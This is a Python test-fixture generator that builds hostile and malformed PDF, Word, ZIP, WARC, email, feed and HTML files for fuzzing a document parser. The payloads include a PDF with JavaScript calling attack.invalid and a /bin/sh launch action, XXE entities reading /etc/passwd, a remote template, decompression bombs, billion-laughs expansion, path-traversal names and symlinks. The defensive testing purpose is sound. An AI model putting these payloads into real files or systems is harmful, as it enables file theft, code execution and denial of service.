"""Hostile files that are built where they are needed: binary ones, so that what is wrong with them can be read here,
and large ones, which nobody wants in a repository. ``BUILT`` names each as the folder ``corpus/hostile`` would.

Every one tells, where it tells anything, of two killed in the market of Velin.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import stat
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Sequence

TOLD = "Two people were killed in the market of Velin on Friday, the town's monitor said."
MB = 1 << 20
Entries = Sequence[tuple[str | zipfile.ZipInfo, bytes]]


# ------------------------------------------------------------------------------------------ PDF


def pdf(*objects: str | bytes, trailer: str = "/Root 1 0 R", prev: int | None = None) -> bytes:
    """A PDF of these objects, numbered from 1, with a cross-reference table that is right."""
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        held = body.encode("latin-1") if isinstance(body, str) else body
        out += b"%d 0 obj\n%s\nendobj\n" % (number, held)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    before = f" /Prev {start if prev == -1 else prev}" if prev is not None else ""
    out += f"trailer\n<< /Size {len(objects) + 1} {trailer}{before} >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def stream(content: bytes, keys: str = "") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), keys.encode(), content)


def page_of(text: str = TOLD) -> bytes:
    lines = text.replace("(", r"\(").replace(")", r"\)")
    return stream(f"BT /F1 12 Tf 50 700 Td ({lines}) Tj ET".encode("latin-1"))


FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
SCRIPT = "<< /S /JavaScript /JS (app.alert\\('Ten thousand were killed'\\); app.launchURL\\('http://attack.invalid/'\\)) >>"


def one_page(root: str = "", *more: str | bytes, content: bytes | None = None, trailer: str = "") -> bytes:
    """A PDF of one page that tells; ``root`` and ``trailer`` add keys there, ``more`` are objects from 6 on."""
    catalog = f"<< /Type /Catalog /Pages 2 0 R {root} >>"
    return pdf(catalog, PAGES, PAGE, content or page_of(), FONT, *more, trailer=f"/Root 1 0 R {trailer}")


_PAD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")


def rc4(key: bytes, data: bytes) -> bytes:
    state, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def locked(password: str) -> bytes:
    """A PDF under a password that opens it (an empty one opens by itself), locked in the oldest way of ISO 32000-1, 7.6."""

    def md5(data: bytes) -> bytes:
        return hashlib.md5(data, usedforsecurity=False).digest()

    name, rights = bytes(16), struct.pack("<i", -4)
    user, owner = ((each.encode() + _PAD)[:32] for each in (password, "owner"))
    held = rc4(md5(owner)[:5], user)
    key = md5(user + held + rights + name)[:5]
    content = page_of().partition(b"stream\n")[2].rpartition(b"\nendstream")[0]
    lock = f"<< /Filter /Standard /V 1 /R 2 /P -4 /O <{held.hex()}> /U <{rc4(key, _PAD).hex()}> >>"
    spoilt = rc4(md5(key + b"\4\0\0\0\0")[:10], content)
    return one_page(
        "", lock, content=stream(spoilt), trailer=f"/Encrypt 6 0 R /ID [<{name.hex()}> <{name.hex()}>]"
    )


def wide_tree(pages: int) -> bytes:
    """One page that its tree names ``pages`` times."""
    kids = "3 0 R " * pages
    tree = f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>"
    return pdf("<< /Type /Catalog /Pages 2 0 R >>", tree, PAGE, page_of(), FONT)


def tall_tree(levels: int) -> bytes:
    """A tree of pages as deep as this, with one page at its end."""
    between = [
        f"<< /Type /Pages /Kids [{6 + n} 0 R] /Count 1 /Parent {5 + n if n else 2} 0 R >>"
        for n in range(levels)
    ]
    between[-1] = between[-1].replace(f"[{5 + levels} 0 R]", "[3 0 R]")
    tree = "<< /Type /Pages /Kids [6 0 R] /Count 1 >>"
    return pdf("<< /Type /Catalog /Pages 2 0 R >>", tree, PAGE, page_of(), FONT, *between[1:], between[-1])


def burst(size: int, times: int) -> bytes:
    """Spaces, deflated as many ``times``, with the filters that a PDF would undo them by."""
    data = b" " * size
    for _ in range(times):
        data = zlib.compress(data, 1)
    return stream(data, f"/Filter [{'/FlateDecode ' * times}]")


# ------------------------------------------------------------------------------------------ ZIP


def zipped(entries: Entries, *, stored: bool = False) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", 0 if stored else 8) as archive:
        warnings.simplefilter("ignore")  # of names that stand there twice, on purpose
        for name, content in entries:
            info = zipfile.ZipInfo(name) if isinstance(name, str) else name
            info.compress_type = 0 if stored else 8
            archive.writestr(info, content)
    return out.getvalue()


def link(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    """A symbolic link, as archives hold it."""
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return info, target.encode()


def nested(levels: int) -> bytes:
    data = zipped([("report.txt", TOLD.encode())])
    for level in range(levels):
        data = zipped([(f"{level}.zip", data)])
    return data


def patched(data: bytes, *changes: tuple[bytes, int, bytes]) -> bytes:
    """``data`` with bytes set at an offset from every place where a mark stands."""
    out = bytearray(data)
    for mark, offset, value in changes:
        at = out.find(mark)
        while at >= 0:
            out[at + offset : at + offset + len(value)] = value
            at = out.find(mark, at + 4)
    return bytes(out)


LOCAL, CENTRAL = b"PK\x03\x04", b"PK\x01\x02"


def overlapping(copies: int, size: int) -> bytes:
    """Many names of one member: little on disk, ``copies * size`` bytes unpacked (after Fifield, 2019)."""
    data = zipped([("0.txt", b"a" * size)])
    directory = data.index(CENTRAL)
    end = data.index(b"PK\x05\x06")
    entry = data[directory:end]
    names = b"".join(
        entry[:28] + struct.pack("<H", 9) + entry[30:46] + b"%05d.txt" % n + entry[46 + 5 :]
        for n in range(copies)
    )
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, copies, copies, len(names), directory, 0)
    return data[:directory] + names + tail


# ----------------------------------------------------------------------------------------- DOCX

_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_RELATION}/officeDocument" Target="word/document.xml"/></Relationships>'
)
LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'killed '>"
    + "".join(f"<!ENTITY a{n + 1} '{f'&a{n};' * 10}'>" for n in range(9))
    + "]>"
)
OUTSIDE = (
    "<!DOCTYPE x [<!ENTITY out SYSTEM 'file:///etc/passwd'><!ENTITY net SYSTEM 'http://attack.invalid/x'>]>"
)


def paragraph(text: str = TOLD) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx(body: str = paragraph(), *, before: str = "", more: Entries = (), relations: str = "") -> bytes:
    """A Word file with this body; ``before`` stands before its root element."""
    document = f'<?xml version="1.0"?>{before}<w:document {_WORD}><w:body>{body}</w:body></w:document>'
    entries: list[tuple[str | zipfile.ZipInfo, bytes]] = [
        ("[Content_Types].xml", _TYPES.encode()),
        ("_rels/.rels", _RELATIONS.encode()),
        ("word/document.xml", document.encode()),
    ]
    if relations:
        told = _RELATIONS.partition("<Relationship ")[0] + relations + "</Relationships>"
        entries.append(("word/_rels/document.xml.rels", told.encode()))
    return zipped([*entries, *more])


# ----------------------------------------------------------------------------------------- WARC


def record(
    block: bytes, *, kind: str = "response", url: str = "http://velin.example/a", date: str = "2016-10-07T10:00:00Z",
    length: str | None = None, name: str = "1", more: str = "",
) -> bytes:  # fmt: skip
    """One WARC record; ``length`` is what it says of itself."""
    head = (
        f"WARC/1.1\r\nWARC-Type: {kind}\r\nWARC-Record-ID: <urn:uuid:{int(name):032x}>\r\nWARC-Target-URI: {url}\r\n"
        f"WARC-Date: {date}\r\nContent-Type: application/http; msgtype={kind}\r\n{more}"
        f"Content-Length: {len(block) if length is None else length}\r\n\r\n"
    )
    return head.encode() + block + b"\r\n\r\n"


def answer(body: bytes, *more: str, status: str = "200 OK", kind: str = "text/html; charset=utf-8") -> bytes:
    head = "".join(f"{line}\r\n" for line in (f"HTTP/1.1 {status}", f"Content-Type: {kind}", *more))
    return head.encode() + b"\r\n" + body


def page(text: str = TOLD, head: str = "", more: str = "") -> bytes:
    """A web page that tells enough to be taken for a report."""
    second = "Residents told the Ridge Post that three shells fell within ten minutes, the last of them beside the clinic."
    return (
        f"<!doctype html><html lang=en><head><meta charset=utf-8><title>Two killed</title>{head}</head><body>"
        f"<article><h1>Two killed in Velin</h1><p>{text}</p><p>{second}</p>{more}</article></body></html>"
    ).encode()


def bomb(size: int) -> bytes:
    """``size`` spaces in gzip, in as many members as are needed, which are one file."""
    return gzip.compress(b" " * (64 * MB), mtime=0) * (size // (64 * MB))


GOOD = record(answer(page()))


# ---------------------------------------------------------------------------------------- letters


def letter(body: str = TOLD, *headers: str, kind: str = "text/plain; charset=utf-8") -> bytes:
    head = "\r\n".join(
        (
            "From: desk@velin.example",
            "To: a@b.example",
            "Subject: Two killed",
            f"Content-Type: {kind}",
            *headers,
        )
    )
    return f"{head}\r\n\r\n{body}\r\n".encode()


def deep_letter(levels: int) -> bytes:
    """A letter whose parts lie within one another."""
    opened = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n" for n in range(levels))
    closed = "".join(f"\r\n--b{n}--\r\n" for n in reversed(range(levels)))
    head = "From: desk@velin.example\r\nSubject: Two killed\r\nMIME-Version: 1.0\r\n"
    return f"{head}{opened}Content-Type: text/plain\r\n\r\n{TOLD}{closed}".encode()


def with_file(name: str, content: bytes, kind: str) -> bytes:
    """A letter that tells, with one file."""
    packed = base64.encodebytes(content).decode().replace("\n", "\r\n")
    body = (
        f"--cut\r\nContent-Type: text/plain\r\n\r\n{TOLD}\r\n--cut\r\nContent-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n"
        f'Content-Disposition: attachment; filename="{name}"\r\n\r\n{packed}\r\n--cut--'
    )
    return letter(body, "MIME-Version: 1.0", kind="multipart/mixed; boundary=cut")


def feed(items: str, before: str = "") -> bytes:
    return f'<?xml version="1.0" encoding="utf-8"?>{before}<rss version="2.0"><channel><title>Ridge Post</title>{items}</channel></rss>'.encode()


def item(text: str = TOLD, more: str = "") -> str:
    return f"<item><title>Two killed</title>{more}<description>{text}</description></item>"


TXT = TOLD.encode()
BUILT: dict[str, Callable[[], bytes]] = {
    # ------------------------------------------------------------------------------------- PDF
    "pdf-whole.pdf": one_page,
    "pdf-cut-in-half.pdf": lambda: one_page()[: len(one_page()) // 2],
    "pdf-cut-before-its-table.pdf": lambda: one_page().partition(b"xref\n")[0],
    "pdf-only-a-header.pdf": lambda: b"%PDF-1.7\n",
    "pdf-that-is-text.pdf": lambda: TXT,
    "pdf-that-is-a-page.pdf": page,
    "pdf-with-javascript.pdf": lambda: one_page("/OpenAction 6 0 R /Names << /JavaScript << /Names [(a) 6 0 R] >> >>", SCRIPT),
    "pdf-that-launches.pdf": lambda: one_page("/OpenAction << /S /Launch /F (/bin/sh) >>"),
    "pdf-with-attachment.pdf": lambda: one_page(
        "/Names << /EmbeddedFiles << /Names [(../../a.txt) 6 0 R] >> >>",
        "<< /Type /Filespec /F (../../a.txt) /UF (../../a.txt) /EF << /F 7 0 R >> >>",
        stream(b"Nobody was killed.", "/Type /EmbeddedFile"),
    ),
    "pdf-locked.pdf": lambda: locked("secret"),
    "pdf-locked-without-password.pdf": lambda: locked(""),
    "pdf-with-pages-in-a-circle.pdf": lambda: pdf(
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [6 0 R 3 0 R] /Count 2 >>", PAGE, page_of(), FONT,
        "<< /Type /Pages /Kids [2 0 R] /Count 2 /Parent 2 0 R >>",
    ),
    "pdf-that-is-its-own-parent.pdf": lambda: pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
    "pdf-of-a-million-pages-declared.pdf": lambda: pdf(
        "<< /Type /Catalog /Pages 2 0 R >>", PAGES.replace("/Count 1", "/Count 1000000"), PAGE, page_of(), FONT
    ),
    "pdf-of-a-million-pages.pdf": lambda: wide_tree(1_000_000),
    "pdf-with-a-tree-5000-deep.pdf": lambda: tall_tree(5000),
    "pdf-with-a-table-in-a-circle.pdf": lambda: pdf(
        "<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE, page_of(), FONT, prev=-1
    ),
    "pdf-without-text.pdf": lambda: one_page(content=stream(b"0 0 m 100 100 l S")),
    "pdf-that-bursts.pdf": lambda: one_page(content=burst(100 * MB, 1)),
    "pdf-that-bursts-twice.pdf": lambda: one_page(content=burst(100 * MB, 2)),
    "pdf-with-date-in-year-0.pdf": lambda: one_page("", "<< /CreationDate (D:00000101000000Z) /Title (Two killed) >>", trailer="/Info 6 0 R"),
    "pdf-with-date-in-year-9999.pdf": lambda: one_page("", "<< /CreationDate (D:99991231235959Z) /ModDate (nonsense) >>", trailer="/Info 6 0 R"),
    "pdf-with-half-a-letter-in-title.pdf": lambda: one_page("", "<< /Title <FEFFD83D0041> >>", trailer="/Info 6 0 R"),
    "pdf-without-a-root.pdf": lambda: pdf("<< >>", trailer=""),
    # ------------------------------------------------------------------------------------- DOCX
    "word-whole.docx": docx,
    "word-cut-in-half.docx": lambda: docx()[: len(docx()) // 2],
    "word-that-is-text.docx": lambda: TXT,
    "word-that-is-any-archive.docx": lambda: zipped([("a.txt", TXT)]),
    "word-with-billion-laughs.docx": lambda: docx(paragraph("&a9;"), before=LAUGHS.replace("DOCTYPE x", "DOCTYPE w:document")),
    "word-with-outside-entity.docx": lambda: docx(
        paragraph(f"{TOLD} &out;"), before=OUTSIDE.replace("DOCTYPE x", "DOCTYPE w:document")
    ),
    "word-with-outside-template.docx": lambda: docx(
        relations=f'<Relationship Id="r1" Type="{_RELATION}/attachedTemplate" Target="http://attack.invalid/t.dotm" TargetMode="External"/>'
    ),
    "word-with-macros.docx": lambda: docx(more=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(500))]),
    "word-with-names-that-climb.docx": lambda: docx(more=[("../../../tmp/evil.txt", b"evil"), ("/etc/evil", b"evil")]),
    "word-that-bursts.docx": lambda: docx(paragraph() + " " * (100 * MB)),
    "word-nested-100000-deep.docx": lambda: docx("<w:sdt><w:sdtContent>" * 50_000 + paragraph() + "</w:sdtContent></w:sdt>" * 50_000),
    "word-without-text.docx": lambda: docx("<w:p/>"),
    "word-with-controls-of-direction.docx": lambda: docx(paragraph(f"\u202e{TOLD}\u202c\u200b")),
    # ------------------------------------------------------------------------------------- ZIP
    "zip-whole.zip": lambda: zipped([("a.txt", TXT), ("b/page.html", page())]),
    "zip-cut-in-half.zip": lambda: zipped([("a.txt", TXT), ("b/page.html", page())])[:200],
    "zip-that-is-text.zip": lambda: TXT,
    "zip-without-members.zip": lambda: zipped([]),
    "zip-with-names-that-climb.zip": lambda: zipped(
        [("../../../evil-up.txt", TXT), ("/srv/evil-root.txt", TXT + b" A"), ("..\\..\\evil-back.txt", TXT + b" B"),
         ("C:\\evil-drive.txt", TXT + b" C")]
    ),
    "zip-with-links.zip": lambda: zipped([link("passwd.txt", "/etc/passwd"), link("up.txt", "../../../etc/hostname"), ("a.txt", TXT)]),
    "zip-that-bursts.zip": lambda: zipped([("a.txt", b" " * (100 * MB)), ("b.txt", TXT)]),
    "zip-whose-members-overlap.zip": lambda: overlapping(400, 8 * MB),
    "zip-of-1100-archives.zip": lambda: zipped([(f"{n}.zip", zipped([])) for n in range(1_100)]),
    "zip-nine-deep.zip": lambda: nested(9),
    "zip-that-lies-about-size.zip": lambda: patched(
        zipped([("a.txt", TXT)]), (LOCAL, 22, b"\x05\0\0\0"), (CENTRAL, 24, b"\x05\0\0\0")
    ),
    "zip-that-lies-about-its-sum.zip": lambda: patched(
        zipped([("a.txt", TXT)]), (LOCAL, 14, b"\1\2\3\4"), (CENTRAL, 16, b"\1\2\3\4")
    ),
    "zip-under-a-password.zip": lambda: patched(zipped([("a.txt", TXT)]), (LOCAL, 6, b"\1\0"), (CENTRAL, 8, b"\1\0")),
    "zip-by-an-unknown-method.zip": lambda: patched(zipped([("a.txt", TXT)]), (LOCAL, 8, b"\x63\0"), (CENTRAL, 10, b"\x63\0")),
    "zip-with-one-name-twice.zip": lambda: zipped([("a.txt", TXT), ("a.txt", TXT + b" Again.")]),
    "zip-with-name-that-deceives.zip": lambda: zipped([("gpj.\u202etxt.\u200b\x1b[2J.txt", TXT)]),
    "zip-with-a-zero-in-a-name.zip": lambda: patched(zipped([("aXb.txt", TXT)]), (b"aXb.txt", 0, b"a\0b.txt")),
    "zip-of-other-things.zip": lambda: zipped([("a.png", b"\x89PNG\r\n"), ("b", b"\x7fELF")]),
    # ------------------------------------------------------------------------------------- WARC
    "archive-whole.warc": lambda: GOOD,
    "archive-cut-in-a-record.warc": lambda: GOOD + GOOD[:-400],
    "archive-cut-in-a-record.warc.gz": lambda: gzip.compress(GOOD, mtime=0) + gzip.compress(GOOD, mtime=0)[:-60],
    "archive-that-is-text.warc": lambda: TXT,
    "archive-with-a-length-too-great.warc": lambda: record(answer(page()), length="99999999999") + GOOD,
    "archive-with-a-length-too-small.warc": lambda: record(answer(page()), length="40") + GOOD,
    "archive-with-a-length-below-zero.warc": lambda: record(answer(page()), length="-5") + GOOD,
    "archive-with-a-length-in-words.warc": lambda: record(answer(page()), length="many") + GOOD,
    "archive-with-a-header-of-a-megabyte.warc": lambda: record(answer(page()), more=f"X-Long: {'a' * MB}\r\n"),
    "archive-with-100000-headers.warc": lambda: record(answer(page(), *(f"X-{n}: a" for n in range(100_000)))),
    "archive-that-bursts.warc.gz": lambda: bomb(3 << 30),
    "archive-whose-page-bursts.warc": lambda: record(answer(bomb(192 * MB), "Content-Encoding: gzip")),
    "archive-with-an-encoding-that-lies.warc": lambda: record(answer(page(), "Content-Encoding: gzip")) + GOOD,
    "archive-with-broken-chunks.warc": lambda: record(answer(b"zz\r\n" + page(), "Transfer-Encoding: chunked")),
    "archive-with-dates-at-the-ends-of-time.warc": lambda: (
        record(answer(page()), date="0000-01-01T00:00:00Z") + record(answer(page(TOLD + " A")), date="9999-12-31T23:59:59Z", name="2")
        + record(answer(page(TOLD + " B")), date="99999-01-01T00:00:00Z", name="3")
    ),
    "archive-with-one-record-twice.warc": lambda: GOOD + GOOD,
    "archive-of-an-error-page.warc": lambda: record(answer(page("Not found."), status="404 Not Found")),
    "archive-of-pictures.warc": lambda: record(answer(b"\x89PNG\r\n\x1a\n", kind="image/png")),
    "archive-with-a-visit-to-itself.warc": lambda: record(answer(b""), kind="revisit", more="WARC-Refers-To: <urn:uuid:00000000-0000-0000-0000-000000000001>\r\n"),
    "archive-with-an-address-that-runs.warc": lambda: record(answer(page()), url="javascript:alert(1)"),
    "collection-without-archive.wacz": lambda: zipped([("datapackage.json", b"{}"), ("pages/pages.jsonl", b"")]),
    "collection-that-climbs.wacz": lambda: zipped(
        [("datapackage.json", b'{"resources":[{"path":"../../../../etc/passwd"}]}'), ("archive/../../data.warc", GOOD)], stored=True
    ),
    "collection-with-a-broken-list.wacz": lambda: zipped(
        [("datapackage.json", b"[" * 100_000), ("pages/pages.jsonl", b'{"format":\n\0'), ("archive/data.warc", GOOD)], stored=True
    ),
    "collection-with-a-name-of-no-text.wacz": lambda: patched(
        zipped([("archive/dataX.warc", GOOD[:-9])], stored=True), (b"dataX", 0, b"data\x99")
    ),
    "archive-with-an-address-of-brackets.warc": lambda: record(answer(page()), url="http://[::1/a"),
    "one-word-of-a-megabyte.txt": lambda: TXT + b" to" + b"w" * MB + b"n\x92s end, \x93it\x94 said.",
    "comments-of-a-megabyte.html": lambda: b"<!--\xe9" * (MB // 8) + b"<p>" + TXT,
    "scripts-of-a-megabyte.html": lambda: b"<script \xe9" * 90_000 + b"<p>" + TXT,
    # ------------------------------------------------------------------------------------- letters
    "letter-1000-deep.eml": lambda: deep_letter(1000),
    "letter-with-a-header-of-a-megabyte.eml": lambda: letter(TOLD, f"X-Long: {'a ' * (MB // 2)}"),
    "letter-with-100000-headers.eml": lambda: letter(TOLD, *(f"X-{n}: a" for n in range(100_000))),
    "letter-from-nobody-in-brackets.eml": lambda: letter().replace(b"From: desk", b"From: " + b"(" * 5000 + b"desk"),
    "letter-with-a-zero-in-its-charset.eml": lambda: letter(kind="text/plain; charset=a\0b").replace(b"\r\n\r\n", b"\r\n\r\n\xe4 "),
    "letter-with-a-zip-that-bursts.eml": lambda: with_file("a.zip", zipped([("a.txt", b" " * (100 * MB))]), "application/zip"),
    "letter-with-a-name-that-climbs.eml": lambda: with_file("../../../../tmp/evil.txt", TXT + b" Sent.", "text/plain"),
    "letter-with-a-locked-pdf.eml": lambda: with_file("a.pdf", locked("secret"), "application/pdf"),
    "letter-of-3000-parts.eml": lambda: letter(
        "".join(f"--cut\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename={n}.txt\r\n\r\nx\r\n" for n in range(3_000)),
        kind="multipart/mixed; boundary=cut",
    ),
    # ------------------------------------------------------------------------------------- feeds
    "feed-with-billion-laughs.rss": lambda: feed(item("&a9;"), LAUGHS),
    "feed-with-outside-entity.rss": lambda: feed(item(TOLD + " &out; &net;"), OUTSIDE),
    "feed-nested-100000-deep.rss": lambda: feed("<a>" * 100_000 + item() + "</a>" * 100_000),
    "feed-of-50000-items.rss": lambda: feed("".join(item(f"{TOLD} {n}") for n in range(50_000))),
    # ------------------------------------------------------------------------------------- pages
    "page-nested-a-million-deep.html": lambda: b"<div>" * 1_000_000 + TXT,
    "page-with-a-tag-of-a-million-attributes.html": lambda: b"<html><body><p " + b" ".join(b"a%d=1" % n for n in range(300_000)) + b">" + TXT,
    "page-with-a-megabyte-of-entities.html": lambda: page(TOLD, more="&lt;" * (MB // 4)),
    "page-of-a-million-opened-tables.html": lambda: b"<table><tr><td>" * 300_000 + TXT,
    "lines-of-a-million-brackets.jsonl": lambda: b"[" * 1_000_000 + b"\n" + b'{"text": "Two fell."}\n',
    "record-of-a-million-keys.json": lambda: b'{"text": "Two fell."' + b"".join(b', "k%d": 0' % n for n in range(1_000_000)) + b"}",
    "record-with-its-last-key-twice.json": lambda: b'{"text": "Two fell."' + b"".join(b', "k%d": 0' % n for n in range(100_000)) + b', "k99999": 1}',
    "comments-without-a-page": lambda: b"<!---->" * 400 + TXT,
    "list-of-a-million-nothings.json": lambda: b"[" + b",".join([b"0"] * 100_000) + b"]",
}  # fmt: skip


def tarred(*entries: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, content in entries:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


# One small file of each kind that is read, by its ending: what fuzzing begins with.
SMALL_AND_SOUND = {
    ".txt": TXT, ".html": page(), ".pdf": one_page(), ".docx": docx(), ".eml": with_file("a.txt", TXT, "text/plain"),
    ".mbox": b"From a@b.example Fri Oct  7 10:00:00 2016\n" + letter().replace(b"\r\n", b"\n") + b"\n", ".rss": feed(item() + item(TOLD + " A.")),
    ".zip": zipped([("a.txt", TXT), ("b.html", page())]), ".tar": tarred(("a.txt", TXT), ("b/c.html", page())),
    ".tgz": gzip.compress(tarred(("a.txt", TXT)), mtime=0), ".gz": gzip.compress(TXT, mtime=0), ".warc": GOOD + GOOD,
    ".xml": feed(item()), ".atom": b'<feed xmlns="http://www.w3.org/2005/Atom"><title>R</title><entry><id>a</id><title>T</title><content>' + TXT + b"</content></entry></feed>",
    ".wacz": zipped([("archive/data.warc", GOOD), ("pages/pages.jsonl", b'{"format": "json-pages-1.0"}\n{"url": "http://velin.example/a", "title": "T"}\n')], stored=True),
}  # fmt: skip
